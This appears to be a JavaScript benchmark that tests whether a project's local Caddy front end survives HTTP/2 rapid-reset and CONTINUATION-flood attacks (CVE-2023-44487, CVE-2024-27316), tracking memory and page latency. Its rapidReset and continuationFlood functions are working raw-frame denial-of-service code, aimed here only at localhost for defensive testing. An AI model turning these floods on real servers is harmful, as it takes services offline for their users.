// The front under HTTP/2 floods: the front as the native production shape runs it
// (deploy/Caddyfile in Debian's caddy, protocols by scripts/lib/front.mjs's safeProtocols), before a
// stand-in site, probed for 5 s each from one connection with
// - rapid resets: stream after stream opened and cancelled at once (CVE-2023-44487);
// - a CONTINUATION flood: one header block that never ends (CVE-2024-27316 and kin);
// while a second client keeps asking a page over HTTP/1.1 and the front's RSS is sampled. A front
// that does not offer HTTP/2 (a Caddy older than 2.10) refuses both at the handshake.
//
//   import { frontFloodFigures } from './bench/front-flood.mjs';
//   const rows = await frontFloodFigures({ seconds: 5 });
//
// Each row is { figure, value, target, met }.
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import tls from 'node:tls';
import { performance } from 'node:perf_hooks';
import { brandTable, caddyVersion, localBrandHost, safeProtocols, startFront } from '../scripts/lib/front.mjs';
import { percentile } from './lib/load.mjs';
import { residentBytes } from './lib/processes.mjs';

const MiB = 1024 * 1024;
/** compose gives the front 256 MiB (docker-compose.yml mem_limit): past it, it is killed. */
export const FRONT_TARGETS = { rssMiB: 256, pageP99Ms: 1000 };

function freePort() {
  return new Promise((resolve, reject) => {
    const server = net.createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address();
      server.close(() => resolve(port));
    });
  });
}

async function waitForPort(port, timeoutMs = 20_000) {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const open = await new Promise((resolve) => {
      const socket = net.connect(port, '127.0.0.1');
      socket.once('connect', () => (socket.destroy(), resolve(true)));
      socket.once('error', () => (socket.destroy(), resolve(false)));
    });
    if (open) return;
    if (Date.now() > end) throw new Error(`port ${port} did not open`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** The protocol the front agrees to for a client offering HTTP/2 first. */
function negotiated(port, host) {
  return new Promise((resolve, reject) => {
    const socket = tls.connect({
      host: '127.0.0.1',
      port,
      servername: host,
      ALPNProtocols: ['h2', 'http/1.1'],
      rejectUnauthorized: false,
    });
    socket.once('secureConnect', () => {
      resolve(socket.alpnProtocol || 'http/1.1');
      socket.destroy();
    });
    socket.once('error', reject);
  });
}

/** One plain page over HTTP/1.1: its latency in ms, or null when it failed. */
function pageLatency(port, host) {
  const start = performance.now();
  return new Promise((resolve) => {
    const request = https.get(
      {
        host: '127.0.0.1',
        port,
        path: '/',
        servername: host,
        headers: { host: `${host}:${port}` },
        rejectUnauthorized: false,
        agent: false,
        timeout: 5000,
      },
      (response) => {
        response.resume();
        response.on('end', () => resolve(response.statusCode === 200 ? performance.now() - start : null));
      },
    );
    request.on('timeout', () => request.destroy());
    request.on('error', () => resolve(null));
  });
}

/** An HTTP/2 frame: 9-byte header (length, type, flags, stream) and its payload. */
function frame(type, flags, streamId, payload) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

/** A raw HTTP/2 connection (TLS, ALPN h2) that has sent its preface and empty SETTINGS. */
function rawHttp2(port, host) {
  const socket = tls.connect({
    host: '127.0.0.1',
    port,
    servername: host,
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false,
  });
  socket.on('error', () => undefined);
  socket.resume();
  return new Promise((resolve, reject) => {
    socket.once('secureConnect', () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame(0x4, 0, 0, Buffer.alloc(0)));
      resolve(socket);
    });
    socket.once('error', reject);
  });
}

/** GET / for `authority`, HPACK-encoded without the table: :method GET, :scheme https, :path /, :authority. */
function requestBlock(authority) {
  const name = Buffer.from(authority);
  return Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x41, name.length]), name]);
}

/**
 * Rapid resets for `ms` on one connection, written as raw frames as the attack does: a request
 * (HEADERS, END_STREAM) and its RST_STREAM (CANCEL) at once, stream after stream, as fast as the
 * connection takes them. Returns the streams opened and cancelled.
 */
async function rapidReset(port, host, ms) {
  const socket = await rawHttp2(port, host);
  const block = requestBlock(`${host}:${port}`);
  const cancel = Buffer.from([0, 0, 0, 0x8]);
  let streams = 0;
  let streamId = 1;
  await new Promise((resolve) => {
    const timer = setTimeout(finish, ms);
    function finish() {
      clearTimeout(timer);
      socket.destroy();
      resolve();
    }
    const pump = () => {
      while (!socket.destroyed && streamId < 2 ** 31 - 2) {
        const batch = [];
        for (let i = 0; i < 64; i += 1) {
          batch.push(frame(0x1, 0x5, streamId, block), frame(0x3, 0, streamId, cancel));
          streamId += 2;
          streams += 1;
        }
        if (!socket.write(Buffer.concat(batch))) return;
      }
    };
    socket.on('drain', pump);
    socket.once('close', finish);
    pump();
  });
  return streams;
}

/** A header block that never ends, for `ms`: the bytes the front took before it closed the connection. */
async function continuationFlood(port, host, ms) {
  const socket = await rawHttp2(port, host);
  let sent = 0;
  await new Promise((resolve) => {
    const timer = setTimeout(finish, ms);
    function finish() {
      clearTimeout(timer);
      socket.destroy();
      resolve();
    }
    // HEADERS without END_HEADERS, then CONTINUATION frames, each one more header `x` of 16000 bytes
    // (HPACK: a literal without indexing, new name), never ending.
    socket.write(frame(0x1, 0, 1, requestBlock(`${host}:${port}`)));
    const header = Buffer.concat([Buffer.from([0x00, 0x01, 0x78, 0x7f, 0x81, 0x7c]), Buffer.alloc(16_000, 0x61)]);
    const pump = () => {
      while (!socket.destroyed) {
        sent += header.length + 9;
        if (!socket.write(frame(0x9, 0, 1, header))) return;
      }
    };
    socket.on('drain', pump);
    socket.once('close', finish);
    pump();
  });
  return sent;
}

export async function frontFloodFigures({ seconds = 5 } = {}) {
  const version = caddyVersion();
  const protocols = safeProtocols(version);
  const brands = brandTable();
  const sitePort = await freePort();
  const site = http.createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.end('<!doctype html><title>page</title>');
  });
  await new Promise((resolve) => site.listen(sitePort, '127.0.0.1', resolve));
  const ports = { https: await freePort(), http: await freePort(), gateway: await freePort() };
  const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'front-flood-'));
  const front = startFront({
    brands,
    httpsPort: ports.https,
    httpPort: ports.http,
    siteUpstreams: [`127.0.0.1:${sitePort}`],
    gatewayUpstreams: [`127.0.0.1:${sitePort}`],
    gatewayPort: ports.gateway,
    dataDir,
  });
  front.stdout.resume();
  front.stderr.resume();
  // The brand's name (SNI) without the port; requests say `<name>:<port>` as their Host.
  const host = localBrandHost(brands[0], ports.https).split(':')[0];
  try {
    await waitForPort(ports.https);
    for (let i = 0; (await pageLatency(ports.https, host)) === null; i += 1) {
      if (i > 100) throw new Error('the front never answered');
      await new Promise((r) => setTimeout(r, 200));
    }
    const rssBefore = residentBytes(front.pid);
    let peak = rssBefore;
    const sampler = setInterval(() => {
      try {
        peak = Math.max(peak, residentBytes(front.pid));
      } catch {
        // The front is gone: the page probe says so.
      }
    }, 100);
    const latencies = [];
    let failures = 0;
    let probing = true;
    const prober = (async () => {
      while (probing) {
        const ms = await pageLatency(ports.https, host);
        if (ms === null) failures += 1;
        else latencies.push(ms);
        await new Promise((r) => setTimeout(r, 100));
      }
    })();
    const alpn = await negotiated(ports.https, host);
    const resetStreams = alpn === 'h2' ? await rapidReset(ports.https, host, seconds * 1000) : null;
    const continuationBytes = alpn === 'h2' ? await continuationFlood(ports.https, host, seconds * 1000) : null;
    // The front after the floods: still answering, memory back.
    await new Promise((r) => setTimeout(r, 1000));
    probing = false;
    await prober;
    clearInterval(sampler);
    const alive = (await pageLatency(ports.https, host)) !== null;
    const p99 = percentile(latencies, 99);
    const peakMiB = peak / MiB;
    return [
      {
        figure: `front: Caddy ${version?.join('.') ?? '?'}, protocols offered`,
        value: `${protocols} (ALPN ${alpn})`,
        target: 'HTTP/2 only on Caddy >= 2.10',
        met: protocols.includes('h2') === Boolean(version && (version[0] > 2 || version[1] >= 10)),
      },
      {
        figure: `front: rapid resets, ${seconds} s, one connection`,
        value: resetStreams === null ? 'refused: no HTTP/2' : `${resetStreams} streams`,
        target: '',
        met: null,
      },
      {
        figure: `front: CONTINUATION flood, ${seconds} s`,
        value: continuationBytes === null ? 'refused: no HTTP/2' : `${(continuationBytes / MiB).toFixed(1)} MiB taken`,
        target: '',
        met: null,
      },
      {
        figure: 'front: peak RSS during the floods (MiB)',
        value: peakMiB,
        target: `< ${FRONT_TARGETS.rssMiB} MiB (compose's limit)`,
        met: peakMiB < FRONT_TARGETS.rssMiB,
      },
      {
        figure: 'front: a page during the floods, p99 (HTTP/1.1)',
        value: p99 ?? 'no answer',
        target: `< ${FRONT_TARGETS.pageP99Ms} ms, none failed`,
        met: p99 !== null && p99 < FRONT_TARGETS.pageP99Ms && failures === 0,
      },
      { figure: 'front: answers after the floods', value: alive ? 'yes' : 'NO', target: 'yes', met: alive },
    ];
  } finally {
    front.kill('SIGTERM');
    site.close();
    await new Promise((r) => setTimeout(r, 300));
    fs.rmSync(dataDir, { recursive: true, force: true });
  }
}
